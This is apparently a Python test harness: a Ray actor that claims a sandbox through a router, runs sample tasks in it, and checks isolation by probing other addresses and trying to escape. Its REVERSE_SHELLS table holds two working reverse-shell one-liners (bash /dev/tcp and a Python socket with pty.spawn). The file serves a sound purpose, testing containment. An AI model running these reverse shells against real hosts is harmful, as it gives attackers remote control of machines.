"""`SandboxExecutor`: a Ray actor that claims one sandbox from a warm pool through the rollbox router, runs a task's
code in it, and tries to get out of it.

It holds the router's address and a tenant token, nothing else: it never addresses a node (the router places the
claim and forwards every call), and a sandbox has no address of its own to be reached at.
"""

from __future__ import annotations

import json
import time
from typing import Any

import ray

from rollbox import SandboxClient
from rollbox.models import ExecResult

TIMEOUT = 5.0
"""Every command runs with `commands.run(..., timeout=5)`."""
CONNECT_TIMEOUT = 1.0
"""Seconds one probe waits for a connection before it counts as timed out."""

FIBONACCI = """
a, b = 0, 1
for _ in range(90):
    a, b = b, a + b
print(a)
"""
AGGREGATE = """
import json, sys
totals = {}
for order in json.load(sys.stdin):
    total = totals.setdefault(order["category"], {"orders": 0, "cents": 0})
    total["orders"] += 1
    total["cents"] += order["cents"]
print(json.dumps(totals, sort_keys=True))
"""
ORDERS = [{"id": i, "category": ("books", "games", "tools")[i % 3], "cents": (i * 37) % 1000} for i in range(300)]
TASKS = {"fibonacci": (FIBONACCI, None), "json-aggregation": (AGGREGATE, json.dumps(ORDERS))}
"""Each task's program and its standard input."""

LISTENER = ("setsid python3 -c 'import socket, time; s = socket.create_server((\"127.0.0.1\", {port})); "
            "time.sleep(600)' >/dev/null 2>&1 &")
"""A server inside the sandbox, left running: what the other executors' lateral probe looks for."""
REVERSE_SHELLS = {
    "reverse shell (bash /dev/tcp)": "bash -i >& /dev/tcp/{host}/{port} 0>&1",
    "reverse shell (python socket)": ("python3 -c 'import os, pty, socket; s = socket.create_connection((\"{host}\", "
                                      "{port}), 3); [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]; "
                                      "pty.spawn(\"/bin/sh\")'"),
}


@ray.remote(num_cpus=0.25)  # it mostly waits on the router
class SandboxExecutor:
    def __init__(self, url: str, token: str | None, warmpool: str) -> None:
        self.client = SandboxClient(url, token)
        self.client.health()  # connected before it claims: the claim's latency is the claim's own
        self.warmpool = warmpool
        self.sandbox: Any = None

    def ready(self) -> str:
        """The Ray node this executor runs on, once it is up."""
        return ray.get_runtime_context().get_node_id()

    def claim(self) -> dict[str, Any]:
        started = time.perf_counter()
        self.sandbox = self.client.create_sandbox(warmpool=self.warmpool, shutdown_after=600)
        claim_ms = (time.perf_counter() - started) * 1000
        print(f"claimed sandbox {self.sandbox.id} from warm pool {self.warmpool} through {self.client.base_url} "
              f"in {claim_ms:.1f} ms", flush=True)
        return {"sandbox": self.sandbox.id, "claim_ms": round(claim_ms, 1), "through": self.client.base_url}

    def listen(self, port: int) -> None:
        self._run(["sh", "-c", LISTENER.format(port=port)])

    def run_task(self, name: str) -> dict[str, Any]:
        program, stdin = TASKS[name]
        result = self._run(["python3", "-c", program], stdin=stdin)
        return {"task": name, "exit_code": result.exit_code, "output": result.stdout.strip(),
                "ms": round(result.duration_ms, 1)}

    def probe(self, program: str, targets: dict[str, list[tuple[str, int]]]) -> dict[str, dict[str, Any]]:
        """Runs `program` (probe.py) on each group of targets, in the sandbox; how each group's attempts ended."""
        outcomes = {}
        for group, addresses in targets.items():
            plan = json.dumps({"targets": addresses, "timeout": CONNECT_TIMEOUT})
            outcomes[group] = tally(addresses, self._run(["python3", "-c", program], stdin=plan))
        return outcomes

    def reverse_shells(self, host: str, port: int) -> dict[str, dict[str, Any]]:
        return {name: shell_outcome(self._run(["bash", "-c", command.format(host=host, port=port)]))
                for name, command in REVERSE_SHELLS.items()}

    def release(self) -> None:
        if self.sandbox is not None:
            self.sandbox.delete()
            self.sandbox = None

    def _run(self, command: list[str], stdin: str | None = None) -> ExecResult:
        return self.sandbox.commands.run(command, stdin=stdin, timeout=TIMEOUT)


def tally(targets: list[tuple[str, int]], result: ExecResult) -> dict[str, Any]:
    """probe.py's lines, counted; a target it never reported was still trying when the command timed out."""
    refused: dict[str, int] = {}
    connected, reported = [], set()
    for line in result.stdout.splitlines():
        outcome, detail, target = line.split(" ")
        reported.add(target)
        if outcome == "connected":
            connected.append(target)
        elif outcome == "refused":
            refused[detail] = refused.get(detail, 0) + 1
    if result.exit_code not in (0, None):
        raise RuntimeError(f"the probe failed: {result.stderr.strip()}")
    return {"tried": len(targets), "connected": connected, "refused": refused,
            "timed_out": len(targets) - len(connected) - sum(refused.values())}


def shell_outcome(result: ExecResult) -> dict[str, Any]:
    """Refused or timed out, from the shell's own words; anything else counts as connected (not contained)."""
    said = (result.stderr.strip().splitlines() or [""])[-1]
    if result.timed_out or "timed out" in said:
        outcome = "timed_out"
    elif result.exit_code != 0 and ("refused" in said or "unreachable" in said):
        outcome = "refused"
    else:
        outcome = "connected"
    return {"outcome": outcome, "said": said or f"exit code {result.exit_code}"}
